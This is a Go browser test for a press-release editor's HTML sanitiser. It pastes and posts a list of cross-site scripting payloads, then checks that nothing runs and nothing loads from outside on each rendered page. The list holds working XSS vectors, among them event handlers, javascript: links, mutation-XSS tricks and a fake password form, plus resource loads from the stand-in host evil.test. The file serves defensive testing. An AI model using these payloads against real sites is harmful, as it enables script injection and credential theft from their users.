package release_test

import (
	"encoding/json"
	"slices"
	"strings"
	"testing"

	"standfirst/handlers/account"
	"standfirst/handlers/newsroom"
	handlers "standfirst/handlers/release"
	"standfirst/handlers/web"
	"standfirst/handlers/web/browsertest"
	"standfirst/models/release"
)

// hostile is pasted into the editor and posted past it. What runs says so in a variable of the page, what is fetched
// asks evil.test; the corpus of the sanitiser alone is in models/release.
var hostile = []string{
	`<script>top.__ran=1</script><script src="https://evil.test/x.js"></script>one`,
	`<img src=x onerror="top.__ran=1"><img src="https://evil.test/x.png"><img srcset="https://evil.test/y.png 2x">two`,
	`<svg onload="top.__ran=1"><script>top.__ran=1</script><image href="https://evil.test/s.png"/><use href="https://evil.test/s.svg#a"/></svg>three`,
	`<svg><animate onbegin=top.__ran=1 attributeName=x dur=1s><set attributeName=href to="javascript:top.__ran=1"/></svg>four`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=top.__ran=1&gt;">five`,
	`<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=top.__ran=1 src>">six`,
	`<svg></p><style><a id="</style><img src=1 onerror=top.__ran=1>">seven`,
	`<noscript><p title="</noscript><img src=x onerror=top.__ran=1>">eight</noscript>`,
	`<a href="javascript:top.__ran=1">link</a> <a href="java&#x09;script:top.__ran=1">link</a> <a href="data:text/html,<script>top.__ran=1</script>">link</a>`,
	`<a href="https://example.com/" onclick="top.__ran=1" onmouseover="top.__ran=1" style="position:fixed;inset:0" ping="https://evil.test/p">good</a>`,
	`<iframe src="javascript:top.__ran=1"></iframe><iframe srcdoc="<script>top.__ran=1</script>"></iframe><iframe src="https://evil.test/"></iframe>`,
	`<object data="https://evil.test/o"></object><embed src="https://evil.test/e"><applet code=x></applet>nine`,
	`<form action="https://evil.test/f"><input name=password autofocus onfocus="top.__ran=1"><button formaction="javascript:top.__ran=1">Sign in</button></form>`,
	`<meta http-equiv="refresh" content="0;url=https://evil.test/m"><base href="https://evil.test/"><link rel=stylesheet href="https://evil.test/l.css">ten`,
	`<style>@import "https://evil.test/i.css"; *{background:url(https://evil.test/b.png)}</style><p style="background:url(https://evil.test/c.png)">eleven</p>`,
	`<details open ontoggle="top.__ran=1">x</details><marquee onstart="top.__ran=1">x</marquee><video autoplay onerror="top.__ran=1"><source src="https://evil.test/v.mp4"></video>`,
	`<span data-fact="F-1&quot; onclick=top.__ran=1" data-version="1">x</span><span data-field="x" onclick="top.__ran=1">field</span>`,
	`<template><img src=x onerror=top.__ran=1></template><xmp><img src=x onerror=top.__ran=1></xmp><plaintext><img src=x onerror=top.__ran=1>`,
	`<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='top.__ran=1'/>"><img src="/nowhere.png"><img src="https://evil.test/broken`,
}

func TestNothingHostileRunsInABrowser(t *testing.T) {
	d := deskOf(t, func(k *web.Kit) []web.Route {
		return slices.Concat(web.StaticRoutes(k), account.Routes(k), handlers.Routes(k), newsroom.Routes(k))
	})
	rel, base := d.release(), d.Serve()
	tab := browsertest.Start(t).Open(t, base, browsertest.Screen{Lang: "en", Width: 1280})
	path := "/acme/releases/" + rel.ID
	calm := func(where string) {
		t.Helper()
		if browsertest.Eval[bool](tab, `new Promise(done => setTimeout(() => done(window.__ran === 1), 60))`) {
			t.Errorf("%s: something ran", where)
		}
		for _, c := range tab.Complaints() {
			if strings.Contains(c, "left the origin") || strings.Contains(c, "exception") {
				t.Errorf("%s: %s", where, c)
			}
		}
		if in := browsertest.Eval[[]string](tab, `[...document.querySelectorAll("main iframe:not([sandbox]), main object, main embed, main img[src*='evil'], main style, main script:not([type]), main base, main meta, main link, main [onclick], main [onerror], main [onload], main a[href^='javascript'], main a[href^='data']")].map(e => e.outerHTML.slice(0, 120))`); len(in) > 0 {
			t.Errorf("%s holds %v", where, in)
		}
	}

	signIn(tab, "officer", path+"/edit")
	browsertest.Eval[bool](tab, `(document.querySelector(".rich-text").focus(), true)`)
	for _, source := range hostile {
		if !tab.Paste(source, "") {
			t.Errorf("not taken: %s", source)
		}
	}
	calm("the editor after pasting")
	tab.Press("Link", browsertest.About("English"))
	tab.Type("Address", "javascript:top.__ran=1", browsertest.About("Remove link"))
	tab.Press("Set link")
	tab.See("Type an address of the web")
	browsertest.Eval[bool](tab, `(document.querySelector("#rich-link").close(), true)`)
	calm("the editor after a link")
	tab.Press("Save version")
	calm("what was pasted")

	// Past the editor, as a forged page or a broken browser would.
	all, err := json.Marshal("<p>It begins.</p>" + strings.Join(hostile[:17], "\n\n"))
	if err != nil {
		t.Fatal(err)
	}
	tab.Go(path + "/edit")
	saved := browsertest.Eval[int64](tab, `fetch("`+path+`/versions", {method: "POST", redirect: "manual", body: new URLSearchParams({csrf: document.querySelector("meta[name=csrf]").content, base: "2", kind: "statement", "headline.en": "Hostile", "body.en": `+string(all)+`.replace('<span data-fact="F-1&quot; onclick=top.__ran=1" data-version="1">x</span>', "")})}).then(r => r.type === "opaqueredirect" ? 303 : r.status)`)
	if saved != 303 {
		t.Fatalf("status %d", saved)
	}
	rel = must[release.Release](t)(d.Space.Releases.Get(d.ctx, rel.ID))
	version := must[release.Version](t)(d.Space.Releases.Version(d.ctx, rel.ID, rel.Current))
	by := d.As("officer").Actor()
	for _, f := range must[release.Report](t)(d.Space.Releases.Check(d.ctx, rel, version)).Findings {
		must[release.Release](t)(d.Space.Releases.Accept(d.ctx, rel.ID, rel.Current, f.Key(), "It is only a test", "", by))
	}
	must[release.Release](t)(d.Space.Releases.Submit(d.ctx, rel.ID, rel.Current, by))
	must[release.Release](t)(d.Space.Releases.Approve(d.ctx, rel.ID, rel.Current, "", d.As("approver").Actor()))
	rel = must[release.Release](t)(d.Space.Releases.Publish(d.ctx, rel.ID, rel.Current, nil, by))
	for _, where := range []string{path, path + "/edit", path + "/preview", path + "/preview?as=mail", path + "/diff?from=1&to=3", "/newsroom/acme/releases/" + rel.Slug + "?lang=en", "/newsroom/acme?lang=en"} {
		tab.Go(where)
		calm(where)
	}
	tab.Go("/newsroom/acme/releases/" + rel.Slug + "?lang=en")
	tab.See("It begins.") // the test looks at something
	tab.See("good")
}
